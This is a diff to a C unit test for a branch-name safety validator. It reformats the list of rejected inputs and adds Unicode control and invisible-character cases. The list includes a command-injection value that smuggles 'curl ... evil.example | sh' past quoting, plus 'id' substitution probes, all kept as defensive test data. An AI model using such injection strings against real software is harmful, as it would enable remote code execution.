@@ -176,16 +176,46 @@ test_str_branch_safe(void **state)
 		                            "dependabot/npm_and_yarn/lodash-4.17.21",
 		                            "a+b",
 		                            "caf\xc3\xa9" };
-	static const char *const bad[] = {
-		"",      "-x",      ".x",     "/x",
-		"x/",    "x.",      "x.lock", "a.lock/b",
-		"a..b",  "a//b",    "a/.b",   "zz\";curl${IFS}-sSfL${IFS}evil.example|sh;#",
-		"a b",   "a`id`",   "a$(id)", "a;b",
-		"a|b",   "a&b",     "a'b",    "a~1",
-		"a^",    "a:b",     "a?",     "a*",
-		"a[1]",  "a\\b",    "a@{1}",  "a\nb",
-		"a\x7f", "bad\xc3", "a#b"
-	};
+	static const char *const bad[] = { "",
+		                           "-x",
+		                           ".x",
+		                           "/x",
+		                           "x/",
+		                           "x.",
+		                           "x.lock",
+		                           "a.lock/b",
+		                           "a..b",
+		                           "a//b",
+		                           "a/.b",
+		                           "zz\";curl${IFS}-sSfL${IFS}evil.example|sh;#",
+		                           "a b",
+		                           "a`id`",
+		                           "a$(id)",
+		                           "a;b",
+		                           "a|b",
+		                           "a&b",
+		                           "a'b",
+		                           "a~1",
+		                           "a^",
+		                           "a:b",
+		                           "a?",
+		                           "a*",
+		                           "a[1]",
+		                           "a\\b",
+		                           "a@{1}",
+		                           "a\nb",
+		                           "a\x7f",
+		                           "bad\xc3",
+		                           "a#b",
+		                           "a\xc2\x85"
+		                           "b",
+		                           "main\xe2\x80\xae",
+		                           "a\xe2\x80\x8b"
+		                           "b",
+		                           "a\xe2\x81\xa0"
+		                           "b",
+		                           "\xef\xbb\xbf"
+		                           "main" };
 	char big[1100];
 	size_t i;
 
